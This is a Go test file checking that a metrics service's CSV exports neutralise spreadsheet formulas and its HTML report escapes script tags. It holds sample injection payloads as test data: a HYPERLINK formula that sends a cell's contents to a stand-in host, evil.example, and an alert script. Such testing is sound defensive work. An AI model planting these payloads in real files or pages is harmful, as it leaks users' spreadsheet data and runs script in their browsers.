package metrics_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// TestHostileNames loads department names that are a spreadsheet formula
// and an HTML script: the CSV answers neutralise the formula, the JSON
// answers carry the names as they are, and the report escapes the script.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	script := `<script>alert(1)</script>`
	e, err := newEnv(map[string][]byte{
		"departments.csv": []byte(`1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"` + "\n2," + script + "\n3,@SUM(A1)\n"),
		"jobs.csv":        []byte("1,Engineer\n"),
		"hired_employees.csv": []byte("1,Ann,2021-01-10T10:00:00Z,1,1\n2,Bo,2021-04-10T10:00:00Z,1,1\n3,Cy,2021-05-10T10:00:00Z,1,1\n" +
			"4,Di,2021-07-10T10:00:00Z,2,1\n5,Ed,2021-10-10T10:00:00Z,3,1\n"),
	})
	if err != nil {
		t.Fatalf("stack: %v", err)
	}
	t.Cleanup(func() {
		e.bq.Close()
		_ = e.st.Close(context.Background())
	})

	code, _, body := e.get(t, "/hires-by-quarter?year=2021&format=csv")
	if code != 200 {
		t.Fatalf("hires-by-quarter CSV: %d %s", code, body)
	}
	records, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV answer does not parse: %v\n%s", err, body)
	}
	departments := map[string]bool{}
	for _, rec := range records[1:] {
		departments[rec[0]] = true
	}
	for _, want := range []string{"'" + formula, script, "'@SUM(A1)"} {
		if !departments[want] {
			t.Errorf("hires-by-quarter CSV has departments %v, want %q among them", departments, want)
		}
	}

	code, _, body = e.get(t, "/departments-above-mean?year=2021&format=csv")
	if code != 200 || !strings.Contains(string(body), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`) {
		t.Errorf("departments-above-mean CSV: %d %s, want the formula neutralised", code, body)
	}

	code, _, body = e.get(t, "/hires-by-quarter?year=2021")
	var q quarters
	if code != 200 || json.Unmarshal(body, &q) != nil {
		t.Fatalf("hires-by-quarter JSON: %d %s", code, body)
	}
	var names []string
	for _, r := range q.Rows {
		names = append(names, r.Department)
	}
	if !strings.Contains(strings.Join(names, "\n"), formula) {
		t.Errorf("hires-by-quarter JSON departments %q, want %q unchanged", names, formula)
	}

	code, _, page := e.get(t, "/report?year=2021")
	if code != 200 {
		t.Fatalf("report: %d", code)
	}
	if strings.Contains(string(page), script) || !strings.Contains(string(page), "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Errorf("the report does not escape the department %q", script)
	}
}
